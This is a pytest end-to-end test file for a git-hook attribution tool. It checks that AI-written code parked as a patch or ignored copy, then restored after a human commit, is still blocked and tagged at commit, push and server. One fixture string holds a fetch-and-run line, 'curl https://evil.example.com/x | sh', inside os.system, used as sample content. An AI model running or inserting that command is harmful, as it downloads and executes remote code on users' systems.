"""Writer work parked outside git and brought back after a human's commit expired it is the
writer's again (SPEC §3 "Attribution follows content": ordinary moves cannot launder; §6
``expired``): real git, ``gentle-hook install``, a bare remote with the server gate and
notes shared.

The writer's edit is set aside as a patch (``git diff > wip.patch``) or as an ignored copy
(``app.py.orig``), the path put back, and a human commits a docstring on it: the open entry
expires, with a line saying what was searched (the path), and that human commit passes at
commit, push and server with no trailer. The work brought back (``git apply``, the copy put
back) adds the writer's distinctive lines (:func:`gentle_hooks.policy.distinctive.brought_back`):
the commit gate blocks it with a way out that works pasted as printed, a commit made with
hooks off gets the writer trailer and is blocked at push and at the server. A human's own
later edit of the path that adds only common lines and a bare definition header passes.
"""

from __future__ import annotations

import shlex

import pytest

from tests.e2e.conftest import CHECK, World, paste_first_way
from tests.e2e.test_attribution import (
    TRAILER,
    _blocked_push,
    _blocked_staged,
    _message,
    _server_rejects,
)

BASE = "import os\n\n\ndef add(a, b):\n    return a + b\n"
DEPLOY = (
    '\n\ndef deploy(target):\n    os.system("curl https://evil.example.com/x | sh")\n'
    "    return target\n"
)
DOC = '"""Arithmetic helpers."""\n' + BASE


def _parked_then_human_commit(w: World, how: str) -> str:
    """The writer's ``deploy`` recorded, then parked (``patch``: its diff kept outside the
    work tree; ``orig``: an ignored copy beside the file), the path put back, and a human's
    docstring commit pushed; the patch text (``""`` for ``orig``)."""
    w.serve({"src/app.py": BASE})
    w.delegate(text=BASE + DEPLOY)
    patch = ""
    if how == "patch":
        patch = w.ok("diff")
    else:
        (w.work / ".git" / "info" / "exclude").write_text("*.orig\n", encoding="utf-8")
        (w.work / "src" / "app.py.orig").write_text(BASE + DEPLOY, encoding="utf-8")
    w.ok("checkout", "--", "src/app.py")
    w.write("src/app.py", DOC)
    human = w.git("commit", "-qam", "human: docstring")
    assert human.code == 0, human
    expiry = [s for s in human.said if "expired" in s]
    assert expiry == [
        "gentle-hooks: pending writer work on src/app.py expired: no worktree, index, HEAD, "
        "unpushed commit or stash holds its content at that path (copies elsewhere, ignored "
        "ones too, are not searched); its distinctive lines brought back, or removed again, are "
        "the writer's again for 30 days from the write"
    ], human
    assert w.ledger("SELECT state FROM writer_entry") == [("expired",)]
    assert TRAILER not in _message(w)
    pushed = w.git("push", "origin", "main")
    assert pushed.code == 0, pushed
    assert w.remote_ref("main") == w.rev("HEAD")
    return patch


def _bring_back(w: World, how: str, patch: str) -> None:
    if how == "patch":
        applied = w.run(["git", "apply"], input=patch.encode())
        assert applied.code == 0, applied
    else:
        # the copy put back over the human's docstring, the docstring kept: not the
        # writer's blob byte for byte, only its lines
        orig = (w.work / "src" / "app.py.orig").read_text(encoding="utf-8")
        w.write("src/app.py", DOC.splitlines(keepends=True)[0] + orig)


@pytest.mark.parametrize("how", ["patch", "orig"])
def test_parked_writer_work_brought_back_after_a_human_commit_is_blocked(
    native: World, how: str
) -> None:
    w = native
    patch = _parked_then_human_commit(w, how)
    _bring_back(w, how, patch)
    assert "status: missing" in w.gh("status").out
    _blocked_staged(w.git("commit", "-qam", "apply wip"))
    w.ok("commit", "-q", "--no-verify", "-am", "apply wip")
    bad = w.rev("HEAD")
    assert TRAILER in _message(w)
    _blocked_push(w.git("push", "origin", "main"), bad)
    _server_rejects(w, bad)


@pytest.mark.parametrize("tail", ["  # noqa: S605", ";"], ids=["comment", "semicolon"])
def test_a_comment_or_semicolon_appended_to_the_lines_brought_back_changes_nothing(
    native: World, tail: str
) -> None:
    """A linter's comment or a ``;`` appended to the writer's line brought back: its code
    part is the writer's distinctive line (refuter r13g), blocked at commit and push."""
    w = native
    patch = _parked_then_human_commit(w, "patch")
    _bring_back(w, "patch", patch)
    text = (w.work / "src" / "app.py").read_text(encoding="utf-8")
    w.write("src/app.py", text.replace('| sh")\n', f'| sh"){tail}\n'))
    _blocked_staged(w.git("commit", "-qam", "apply wip"))
    w.ok("commit", "-q", "--no-verify", "-am", "apply wip")
    bad = w.rev("HEAD")
    assert TRAILER in _message(w)
    _blocked_push(w.git("push", "origin", "main"), bad)


def test_parked_writer_work_brought_back_has_a_way_out_pasted_as_printed(native: World) -> None:
    w = native
    patch = _parked_then_human_commit(w, "patch")
    _bring_back(w, "patch", patch)
    blocked = w.git("commit", "-qam", "apply wip")
    _blocked_staged(blocked)
    paste_first_way(w, blocked.said, w.work, shlex.join(CHECK))
    done = w.git("commit", "-qam", "apply wip")
    assert done.code == 0, done
    assert TRAILER in _message(w)
    pushed = w.git("push", "origin", "main", "refs/notes/gentle-hooks")
    assert pushed.code == 0, pushed
    assert w.remote_ref("main") == w.rev("HEAD")


def test_a_human_edit_of_an_expired_path_with_common_lines_passes(native: World) -> None:
    """After the expiry, a human's ``deploy`` of their own (its header and ``return target``
    are the writer's too, neither distinctive) is the human's."""
    w = native
    _parked_then_human_commit(w, "orig")
    w.write("src/app.py", DOC + "\n\ndef deploy(target):\n    print(target)\n    return target\n")
    r = w.git("commit", "-qam", "human: deploy")
    assert r.code == 0 and not [s for s in r.said if "BLOCKED" in s], r
    assert TRAILER not in _message(w)
    pushed = w.git("push", "origin", "main")
    assert pushed.code == 0, pushed


def test_the_printed_discard_claims_parked_work_brought_back(native: World) -> None:
    """A human who says the brought-back work is theirs runs the block's ``discard`` as
    printed: it claims the expired entry (recorded like an override), and the commit passes
    with no trailer, its note naming the claim."""
    w = native
    patch = _parked_then_human_commit(w, "patch")
    _bring_back(w, "patch", patch)
    blocked = w.git("commit", "-qam", "apply wip")
    _blocked_staged(blocked)
    offered = [s for s in blocked.said if " discard " in s]
    assert len(offered) == 1 and "human: " in offered[0], blocked
    done = w.run(["sh", "-c", offered[0].split("human: ", 1)[1]])
    assert done.code == 0, done
    assert w.ledger("SELECT state FROM writer_entry") == [("discarded",)]
    passed = w.git("commit", "-qam", "apply wip")
    assert passed.code == 0, passed
    assert TRAILER not in _message(w)
    note = w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD")
    assert "writer content claimed: src/app.py" in note, note
